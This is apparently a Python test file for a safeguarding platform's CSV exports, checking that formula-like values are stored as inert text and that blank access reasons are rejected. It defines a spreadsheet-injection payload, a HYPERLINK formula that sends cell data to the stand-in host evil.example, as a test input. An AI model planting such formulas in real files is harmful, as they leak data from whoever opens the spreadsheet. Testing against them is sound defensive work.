"""Every export a person opens in a spreadsheet: a value starting like a formula lands inert
(a probe's reason of =HYPERLINK(...) became a live formula in access_log.csv)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from starlette.testclient import TestClient
from typer.testing import CliRunner

from safeguard.api import create_app
from safeguard.cli import app
from tests.api_world import seeded_world

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def test_subject_access_log_keeps_a_formula_reason_as_text(tmp_path: Path) -> None:
    with seeded_world(f"sqlite:///{tmp_path}/s.db") as world:
        client = TestClient(create_app(world.platform))
        read = client.get(
            f"/api/v1/persons/{world.child}",
            params={"reason": PAYLOAD},
            headers={"Authorization": f"Bearer {world.tokens['practitioner']}"},
        )
        assert read.status_code == 200
        world.platform.audit.subject_access(world.child, tmp_path / "sar")
    text = (tmp_path / "sar" / "access_log.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(text.splitlines()))
    reasons = [r[-1] for r in rows[1:]]
    assert "'" + PAYLOAD in reasons
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_identity_cluster_output_keeps_a_formula_record_id_as_text(tmp_path: Path) -> None:
    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
    pd.DataFrame(
        {
            "record_id": [PAYLOAD, "r2", "@SUM(1)"],
            "first_name": ["Ann", "Ann", "Bob"],
            "surname": ["Lee", "Lee", "Hart"],
            "dob": ["2010-01-01", "2010-01-01", "2011-02-03"],
        }
    ).to_csv(src, index=False)
    result = CliRunner().invoke(
        app, ["identity", "cluster", "--input", str(src), "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    ids = set(pd.read_csv(out, dtype=str)["record_id"])
    assert ids == {"'" + PAYLOAD, "r2", "'@SUM(1)"}


def test_a_reason_of_spaces_is_refused(tmp_path: Path) -> None:
    with seeded_world(f"sqlite:///{tmp_path}/s.db") as world:
        client = TestClient(create_app(world.platform))
        headers = {"Authorization": f"Bearer {world.tokens['practitioner']}"}
        for reason in ("   ", "\t\t\t", "     "):
            response = client.get(
                f"/api/v1/persons/{world.child}", params={"reason": reason}, headers=headers
            )
            assert response.status_code == 422, reason
        ok = client.get(
            f"/api/v1/persons/{world.child}", params={"reason": " s47 enquiry "}, headers=headers
        )
        assert ok.status_code == 200
